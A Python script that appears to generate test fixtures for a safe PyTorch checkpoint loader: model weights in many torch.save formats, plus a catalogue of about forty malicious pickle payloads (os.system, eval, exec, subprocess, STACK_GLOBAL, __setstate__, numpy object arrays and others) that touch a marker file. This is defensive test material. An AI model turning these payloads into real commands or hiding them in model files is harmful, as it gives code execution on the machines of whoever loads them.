"""Write the files in pickles/ with real torch and real pickle. README.md describes each file."""

import argparse
import builtins
import collections
import io
import json
import pickle
import struct
import subprocess
import sys
import tempfile
import warnings
import zipfile
from pathlib import Path

import numpy
import torch
from safetensors.torch import load_file

HERE = Path(__file__).resolve().parent
LEGACY = {"_use_new_zipfile_serialization": False}
# The file that an exploit creates in the working directory if it runs.
MARKER = "finsent-exploit-was-run"
COMMAND = f"touch {MARKER}"
PYTHON = f"open({MARKER!r}, 'w').close()"


# The weights of the small model, in every file format of torch.save.


def state_dict(weights):
    """Return what `torch.nn.Module.state_dict` would: an OrderedDict with `_metadata` and a buffer of integers."""
    ordered = collections.OrderedDict(weights)
    ordered["bert.embeddings.position_ids"] = torch.arange(48).expand((1, -1))
    ordered._metadata = collections.OrderedDict({"": {"version": 1}, "bert": {"version": 1}})
    return ordered


def laid_out(weights):
    """Return the same numbers in shared storages, at offsets, transposed, and with gaps."""
    names = list(weights)
    matrices = [name for name in names if weights[name].dim() == 2]
    others = [name for name in names if weights[name].dim() != 2]
    flat = torch.cat([weights[name].reshape(-1) for name in others])
    found, at = {}, 0
    for name in others:
        numbers = weights[name].numel()
        found[name] = flat[at : at + numbers].view(weights[name].shape)
        at += numbers
    for index, name in enumerate(matrices):
        matrix = weights[name]
        if index % 3 == 0:
            found[name] = matrix.t().contiguous().t()
        elif index % 3 == 1:
            wide = torch.full((matrix.shape[0], matrix.shape[1] + 3), float("nan"))
            wide[:, 2:-1] = matrix
            found[name] = wide[:, 2:-1]
        else:
            found[name] = matrix.clone()
    # Tied: two names, one storage.
    found["cls.predictions.decoder.weight"] = found["bert.embeddings.word_embeddings.weight"]
    for name, tensor in weights.items():
        assert torch.equal(found[name], tensor)
    return {name: found[name] for name in [*names, "cls.predictions.decoder.weight"]}


def big_endian(path):
    """Rewrite an archive as torch would write it on a big-endian machine. On this machine torch can only read such files, so
    this swaps the bytes of the storages, by the size of their type, and sets the record `byteorder`."""
    weights = torch.load(path)
    records, sizes = [], [tensor.element_size() for tensor in first_of_each_storage(weights)]
    with zipfile.ZipFile(path) as archive:
        for info in archive.infolist():
            data = archive.read(info)
            name = info.filename.split("/", 1)[1]
            if name == "byteorder":
                data = b"big"
            elif name.startswith("data/"):
                data = swapped(data, sizes[int(name.removeprefix("data/"))])
            records.append((info.filename, data))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in records:
            archive.writestr(zipfile.ZipInfo(name), data)
    for expected, found in zip(tensors(weights), tensors(torch.load(path))):
        assert expected.dtype == found.dtype and torch.equal(expected, found)


def tensors(weights):
    return [value for value in weights.values() if isinstance(value, torch.Tensor)]


def first_of_each_storage(weights):
    """Return the first tensor of each storage, in the order in which torch.save numbers storages."""
    seen = {}
    for tensor in tensors(weights):
        seen.setdefault(tensor.untyped_storage()._cdata, tensor)
    return list(seen.values())


def swapped(data, size):
    return numpy.frombuffer(data, dtype=f"u{size}").byteswap().tobytes()


def flagged_big_endian(path):
    """Set `little_endian: False` in a legacy file. torch's THPStorage_writeFileRaw writes little-endian numbers on every
    machine, so a file from a big-endian machine differs only in this flag."""
    data = path.read_bytes()
    flag = b"X\x0d\x00\x00\x00little_endianq\x02"
    assert data.count(flag + b"\x88") == 1
    before = torch.load(path)
    path.write_bytes(data.replace(flag + b"\x88", flag + b"\x89"))
    after = torch.load(path)
    assert all(torch.equal(before[name], after[name]) for name in before)


def write_models(directory, small):
    f32, f16, bf16 = (load_file(small / f"{dtype}.safetensors") for dtype in ["f32", "f16", "bf16"])
    save = lambda weights, name, **options: torch.save(state_dict(weights), directory / name, **options)
    save(f32, "f32.bin")
    save(f32, "f32.legacy.bin", **LEGACY)
    save(f16, "f16.bin")
    save(bf16, "bf16.bin")
    save(bf16, "bf16.legacy.bin", **LEGACY)
    save(f16, "f16.protocol4.bin", pickle_protocol=4)
    save(f16, "f16.protocol5.legacy.bin", pickle_protocol=5, **LEGACY)
    save(laid_out(f32), "f32.layouts.bin")
    save(laid_out(f32), "f32.layouts.legacy.bin", **LEGACY)
    save(f32, "f32.big_endian.bin")
    big_endian(directory / "f32.big_endian.bin")
    save(f16, "f16.flagged.legacy.bin", **LEGACY)
    flagged_big_endian(directory / "f16.flagged.legacy.bin")
    wrapped = {"epoch": 3, "state_dict": {f"module.{name}": torch.nn.Parameter(value) for name, value in f16.items()}}
    torch.save(wrapped | {"best": 0.5, "arguments": {"lr": 1e-5, "layers": [1, 2]}}, directory / "f16.wrapped.bin")
    write_shards(directory / "sharded", f16)


def write_shards(directory, weights):
    directory.mkdir(exist_ok=True)
    names = list(weights)
    halves = {1: names[: len(names) // 2], 2: names[len(names) // 2 :]}
    shard = lambda number: f"pytorch_model-{number:05}-of-00002.bin"
    # One shard in each file format.
    torch.save({name: weights[name] for name in halves[1]}, directory / shard(1))
    torch.save({name: weights[name] for name in halves[2]}, directory / shard(2), **LEGACY)
    weight_map = {name: shard(number) for number, half in halves.items() for name in half}
    index = {"metadata": {"total_size": sum(value.nbytes for value in weights.values())}, "weight_map": weight_map}
    (directory / "pytorch_model.bin.index.json").write_text(json.dumps(index, indent=2) + "\n", encoding="utf-8")


# A few tensors of every kind. The files are so small that a test can truncate them at every byte.


def tiny_weights():
    base = torch.arange(12, dtype=torch.float32)
    return collections.OrderedDict(
        {
            "f32": torch.tensor([[1.5, -0.1], [3e38, 1e-40]]),
            "f16": torch.tensor([1.0, -65504.0, 6e-8], dtype=torch.float16),
            "bf16": torch.tensor([1.0, -3.140625, 1e38], dtype=torch.bfloat16),
            "f64": torch.tensor([0.1], dtype=torch.float64),
            "i64": torch.arange(3).expand((1, -1)),
            "i32": torch.tensor([-7], dtype=torch.int32),
            "i16": torch.tensor([-7], dtype=torch.int16),
            "i8": torch.tensor([[-127, 5]], dtype=torch.int8),
            "u8": torch.tensor([255], dtype=torch.uint8),
            "bool": torch.tensor([True, False]),
            "base": base,
            "view": base[2:8].view(2, 3),
            "transposed": base.view(3, 4).t(),
            "every_other": base[1::2],
            "expanded": base[5:6].expand(2, 3),
            "square": base.view(3, 4)[1:, 1:3],
            "scalar": torch.tensor(2.5),
            "empty": torch.empty((0, 4)),
            "parameter": torch.nn.Parameter(torch.tensor([4.0, 5.0])),
            "step": 7,
            "note": "text",
            "nested": {"tensor": torch.ones(1), "list": [1, (2,), {3}, None, 1 << 80, -1, 0.5, torch.Size([1])]},
            "device": torch.device("cpu"),
        }
    )


def write_tiny(directory):
    weights = tiny_weights()
    torch.save(weights, directory / "tiny.bin")
    torch.save(weights, directory / "tiny.legacy.bin", **LEGACY)
    torch.save(weights, directory / "tiny.protocol4.bin", pickle_protocol=4)
    # `nested` holds a storage that `big_endian` would not swap.
    del weights["nested"]
    torch.save(weights, directory / "tiny.big_endian.bin")
    big_endian(directory / "tiny.big_endian.bin")
    described = {
        name: {
            "dtype": str(tensor.dtype).removeprefix("torch."),
            "shape": list(tensor.shape),
            "values": tensor.detach().to(torch.float64).flatten().tolist(),
        }
        for name, tensor in weights.items()
        if isinstance(tensor, torch.Tensor)
    }
    (directory / "tiny.json").write_text(json.dumps(described, indent=1) + "\n", encoding="utf-8")


# Exploits.


class Calls:
    """An object whose pickle is a function call."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


class ByState:
    """An object that runs a command when unpickling sets its state."""

    def __setstate__(self, command):
        import os

        os.system(command)

    def __reduce__(self):
        return (ByState, (), COMMAND)


def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def by_global(module, name):
    return b"c" + f"{module}\n{name}\n".encode()


def with_storage(part):
    """Return a pickled state dict whose first tensor has `part` in place of its storage's device."""
    storage = b"(" + text("storage") + by_global("torch", "FloatStorage") + text("0") + part + b"K\x01tQ"
    tensor = by_global("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + b"K\x00K\x01\x85K\x01\x85\x89N"
    return b"\x80\x02}" + text("a") + tensor + b"tRs."


def exploits():
    import os

    system = Calls(os.system, COMMAND)
    posix_system = by_global("posix", "system")
    call_system = posix_system + text(COMMAND) + b"\x85R"
    for protocol in range(6):
        yield f"os.system, protocol {protocol}", "posix.system", pickle.dumps(system, protocol)
    yield "os.system beside weights", "posix.system", pickle.dumps({"a": [1, {"b": (system,)}]}, 2)
    yield "os.system as a key", "posix.system", b"\x80\x02}" + call_system + b"K\x01s."
    yield "eval, protocol 2", "__builtin__.eval", pickle.dumps(Calls(builtins.eval, PYTHON), 2)
    yield "eval, protocol 4", "builtins.eval", pickle.dumps(Calls(builtins.eval, PYTHON), 4)
    yield "exec, protocol 2", "__builtin__.exec", pickle.dumps(Calls(builtins.exec, PYTHON), 2)
    yield "exec, protocol 4", "builtins.exec", pickle.dumps(Calls(builtins.exec, PYTHON), 4)
    imported = by_global("builtins", "__import__") + text("os") + b"\x85R"
    attribute = by_global("builtins", "getattr") + imported + text("system") + b"\x86R"
    yield "getattr", "builtins.getattr", b"\x80\x04" + attribute + text(COMMAND) + b"\x85R."
    yield "subprocess", "subprocess.check_output", pickle.dumps(Calls(subprocess.check_output, ["touch", MARKER]), 4)
    yield "INST", "posix.system", b"\x80\x02(" + text(COMMAND) + b"iposix\nsystem\n."
    yield "OBJ", "posix.system", b"\x80\x02(" + posix_system + text(COMMAND) + b"o."
    yield "NEWOBJ", "__main__.ByState", b"\x80\x02" + by_global("__main__", "ByState") + b")\x81" + text(COMMAND) + b"b."
    yield "BUILD with __setstate__", "__main__.ByState", pickle.dumps(ByState(), 4)
    attribute = b"}" + text("__setstate__") + posix_system + b"s"
    set_state = by_global("collections", "OrderedDict") + b")R" + attribute + b"b" + text(COMMAND) + b"b."
    yield "BUILD that makes a __setstate__", "posix.system", b"\x80\x02" + set_state
    stack_global = text("posix") + text("system") + b"\x93" + text(COMMAND) + b"\x85R"
    yield "STACK_GLOBAL", "posix.system", b"\x80\x04" + stack_global + b"."
    yield "the name of the class from the memo", "posix.system", (
        b"\x80\x04" + text("system") + b"\x94" + text("posix") + b"\x94h\x01h\x00\x93" + text(COMMAND) + b"\x85R."
    )
    dotted = text("collections") + text("OrderedDict.fromkeys") + b"\x93" + text("a") + b"\x85R"
    yield "a dotted name in a class that is known", "collections.OrderedDict.fromkeys", b"\x80\x04" + dotted + b"."
    yield "in a persistent id", "posix.system", with_storage(call_system)
    yield "in place of a storage's type", "posix.system", with_storage(text("cpu")).replace(
        by_global("torch", "FloatStorage"), posix_system
    )
    yield "EXT1", None, b"\x80\x02\x82\x01" + text(COMMAND) + b"\x85R."
    yield "EXT2", None, b"\x80\x02\x83\x01\x01" + text(COMMAND) + b"\x85R."
    yield "EXT4", None, b"\x80\x02\x84\x01\x01\x01\x01" + text(COMMAND) + b"\x85R."
    yield "STRING and INST, protocol 0", None, f"(S'{COMMAND}'\nios\nsystem\n.".encode()
    yield "PERSID", None, b"Pevil\n."
    yield "pip", "pip.main", b"\x80\x02" + by_global("pip", "main") + b"](" + text("install") + text("x") + b"e\x85R."
    yield "runpy", "runpy._run_code", b"\x80\x02" + by_global("runpy", "_run_code") + text(PYTHON) + b"}\x86R."
    yield "torch.load", "torch.serialization.load", b"\x80\x02" + by_global("torch.serialization", "load") + text("x") + b"\x85R."
    yield "torch.hub", "torch.hub.load", b"\x80\x02" + by_global("torch.hub", "load") + text("x/y") + text("z") + b"\x86R."
    yield "a storage that is none", "torch.EvilStorage", b"\x80\x02" + by_global("torch", "EvilStorage") + b")R."
    array = numpy.empty(1, dtype=object)
    array[0] = system
    name = numpy.empty(0).__reduce__()[0]
    yield "in an array of numpy", f"{name.__module__}.{name.__name__}", pickle.dumps(array, 2)
    older = pickle.dumps(array, 2).replace(name.__module__.encode(), b"numpy.core.multiarray")
    yield "in an array of an older numpy", "numpy.core.multiarray._reconstruct", older


def is_run(data):
    """Return whether Python's own unpickler runs the exploit."""
    script = "import sys, pickle; sys.path.insert(0, sys.argv[1]); from pickles import ByState, with_persistent_ids\n"
    script += "with_persistent_ids(sys.stdin.buffer.read())"
    with tempfile.TemporaryDirectory() as directory:
        subprocess.run([sys.executable, "-c", script, str(HERE)], input=data, cwd=directory, capture_output=True)
        return (Path(directory) / MARKER).exists()


def with_persistent_ids(data):
    class Unpickler(pickle.Unpickler):
        def persistent_load(self, saved_id):
            return saved_id

    return Unpickler(io.BytesIO(data)).load()


def write_exploits(directory):
    # These do not create the file: they call something harmless or missing, or something that this script must not call.
    not_run = {"EXT1", "EXT2", "EXT4", "PERSID", "pip", "torch.load", "torch.hub", "a storage that is none"}
    not_run |= {"a dotted name in a class that is known", "in place of a storage's type"}
    written = []
    for name, class_name, data in exploits():
        assert name in not_run or is_run(data), name
        written.append({"name": name, "class": class_name, "pickle": data.hex()})
    lines = ",\n".join(json.dumps(exploit) for exploit in written)
    document = f'{{"marker": {json.dumps(MARKER)}, "exploits": [\n{lines}\n]}}\n'
    (directory / "exploits.json").write_text(document, encoding="utf-8")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", type=Path, default=HERE, metavar="DIR")
    directory = parser.parse_args().out / "pickles"
    directory.mkdir(exist_ok=True)
    warnings.simplefilter("ignore")
    write_models(directory, HERE / "small")
    write_tiny(directory)
    write_exploits(directory)


if __name__ == "__main__":
    main()
